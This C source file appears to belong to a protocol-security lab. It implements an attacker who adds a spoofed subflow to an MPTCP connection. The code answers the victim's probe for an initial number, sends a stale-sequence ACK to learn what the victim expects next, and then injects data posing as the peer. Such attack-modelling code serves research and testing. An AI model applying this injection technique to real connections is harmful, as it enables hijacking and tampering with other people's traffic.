/* lab/numbered.c: what numbers have to do with a pair that an attacker adds to Basic MPTCP
 * (docs/mechanisms/basic.md): where each pair counts by itself he has numbers of his own there and
 * maps what he writes; where a message needs a number he finds one. */
#include "base/panic.h"
#include "lab/attack.h"
#include "lab/intruder.h"

enum { PROBE_LIMIT_MS = 2500, ANSWER_LIMIT_S = 1 };

bool plait_pair_is_numbered(const struct plait_attack *a)
{
    const struct plait_mechanism *spoken = plait_spoken(a);
    return spoken->path == PLAIT_PATH_OPEN && spoken->mapping == PLAIT_MAPPING_DSS;
}

static struct plait_intruder *pair_at(struct plait_attack *a, const struct plait_place *own)
{
    for (unsigned i = 0; i < PLAIT_INTRUDERS_MAX; i++)
        if (a->intruders[i].used && plait_place_equal(&a->intruders[i].own, own))
            return &a->intruders[i];
    return NULL;
}

struct plait_intruder *plait_pair_begin(struct plait_attack *a, const struct plait_place *own,
                                        const struct plait_place *peer)
{
    struct plait_intruder *pair = pair_at(a, own);
    if (pair)
        return pair;
    bool is_server = plait_addr_equal(&peer->addr, &a->world->server_addr);
    pair = plait_intruder_new(a, is_server ? PLAIT_SERVER : PLAIT_CLIENT, own->port, peer);
    PLAIT_CHECK(pair);
    pair->own = *own;
    pair->established = pair->mute = true;
    pair->nxt = pair->isn + 1; /* there is no SYN */
    return pair;
}

uint32_t plait_pair_isn(struct plait_attack *a, const struct plait_flow_key *way)
{
    return plait_pair_is_numbered(a) ? plait_pair_begin(a, &way->src, &way->dst)->isn : 0;
}

/* ---- writing ------------------------------------------------------------------------------ */

static bool is_probe_home(const struct plait_seen *seen, const void *pair)
{
    const struct plait_mp_control *control = plait_segment_control(&seen->segment);
    return plait_is_answer(seen, pair) && control && control->what == PLAIT_CONTROL_PROBE;
}

static bool has_data_ack(const struct plait_seen *seen, const void *pair)
{
    const struct plait_mptcp_option *dss = plait_segment_option(&seen->segment, PLAIT_DSS);
    return plait_is_answer(seen, pair) && dss && dss->dss.has_ack;
}

/* Without a check the victim has asked for his number, too, and asks again. */
bool plait_pair_tell(struct plait_attack *a, struct plait_intruder *pair,
                     void (*say)(struct plait_attack *a, const struct plait_place *from,
                                 const struct plait_mp_control *message))
{
    if (pair->has_told_isn)
        return true;
    if (!plait_await(a, is_probe_home, pair, PROBE_LIMIT_MS * PLAIT_MS)) {
        plait_refused(a, "nothing asked for his initial number");
        return false;
    }
    struct plait_mp_control answer = *plait_segment_control(plait_answer(a));
    answer.what = PLAIT_CONTROL_ANSWER;
    plait_step(a, "tells his initial number");
    say(a, &pair->own, &answer);
    return true;
}

/* A number that is old draws an ACK, and a DATA_ACK with it (RFC 9293 §3.10.7.4). */
static bool ask_what_is_next(struct plait_attack *a, const struct plait_intruder *pair)
{
    struct plait_segment old = plait_intruder_segment(pair, PLAIT_ACK);
    old.seq--;
    plait_send(a, &old);
    if (plait_await(a, has_data_ack, pair, ANSWER_LIMIT_S * PLAIT_S))
        return true;
    plait_refused(a, "nothing told him what the victim expects next");
    return false;
}

void plait_pair_write(struct plait_attack *a, const struct plait_flow_key *way,
                      void (*say)(struct plait_attack *a, const struct plait_place *from,
                                  const struct plait_mp_control *message))
{
    struct plait_intruder *pair = plait_pair_begin(a, &way->src, &way->dst);
    if (!plait_pair_tell(a, pair, say) || !ask_what_is_next(a, pair))
        return;
    plait_step(a, "writes as the peer");
    plait_intrude(a, pair, plait_full_payload(), PLAIT_FULL_OCTETS);
}
